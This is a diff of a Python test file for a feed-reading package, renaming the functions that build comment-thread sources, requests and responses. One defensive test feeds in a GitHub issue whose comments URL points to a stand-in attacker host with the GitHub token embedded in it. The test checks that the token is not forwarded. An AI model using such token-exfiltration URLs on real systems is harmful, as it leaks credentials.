@@ -5,7 +5,10 @@ import json
 from tests.sources.conftest import NOW
 
 from brandwatch.models import Document, Entry, Source
-from brandwatch.sources import Registry, conversation, read, request
+from brandwatch.sources.registry import Registry
+from brandwatch.sources.request import build_request
+from brandwatch.sources.response import read_answer
+from brandwatch.sources.threads import thread_source
 
 REGISTRY = Registry()
 
@@ -18,11 +21,11 @@ def test_comments_in_json_are_read_with_the_same_kind():
         headers=(("Api-Key", "${DISCOURSE_API_KEY}"),),
         values=(("site", "https://forum.example"),),
     )
-    below = conversation(REGISTRY.kind("discourse"), source, Entry(comment_feed="https://forum.example/t/51.json"))
+    below = thread_source(REGISTRY.kind("discourse"), source, Entry(comment_feed="https://forum.example/t/51.json"))
     assert below == Source(
         url="https://forum.example/t/51.json", kind="discourse", headers=source.headers, values=source.values
     )
-    asked = request(REGISTRY.kind("discourse"), below, {"DISCOURSE_API_KEY": "k"}, NOW)
+    asked = build_request(REGISTRY.kind("discourse"), below, {"DISCOURSE_API_KEY": "k"}, NOW)
     assert (asked.url, asked.headers) == ("https://forum.example/t/51.json", (("Api-Key", "k"),))
 
 
@@ -30,9 +33,9 @@ def test_comments_of_a_feed_are_a_feed_of_comments():
     """That of a WordPress post is read as one of comments, whatever its post came through."""
     source = Source(url="https://b.example/?s=x&feed=rss2", kind="wordpress", allow_private=True)
     entry = Entry(comment_feed="https://b.example/post/feed/")
-    below = conversation(REGISTRY.kind("wordpress"), source, entry)
+    below = thread_source(REGISTRY.kind("wordpress"), source, entry)
     assert below == Source(url="https://b.example/post/feed/", kind="comments", allow_private=True)
-    assert conversation(REGISTRY.kind("wordpress"), source, Entry()) is None
+    assert thread_source(REGISTRY.kind("wordpress"), source, Entry()) is None
 
 
 def test_an_answer_cannot_send_our_keys_anywhere():
@@ -45,12 +48,12 @@ def test_an_answer_cannot_send_our_keys_anywhere():
         "comments_url": "https://evil.example/?take=${GITHUB_TOKEN}",
     }
     body = json.dumps({"items": [issue]}).encode()
-    (entry,) = read(kind, Document(url="https://api.github.com/", status=200, body=body), {}).entries
+    (entry,) = read_answer(kind, Document(url="https://api.github.com/", status=200, body=body), {}).entries
     source = Source(
         url="https://api.github.com/search", kind="github", headers=(("Authorization", "Bearer ${GITHUB_TOKEN}"),)
     )
-    below = conversation(kind, source, entry)
+    below = thread_source(kind, source, entry)
     assert below is not None
-    asked = request(kind, below, {"GITHUB_TOKEN": "s3cret"}, NOW)
+    asked = build_request(kind, below, {"GITHUB_TOKEN": "s3cret"}, NOW)
     assert asked.headers == ()
     assert "s3cret" not in asked.url
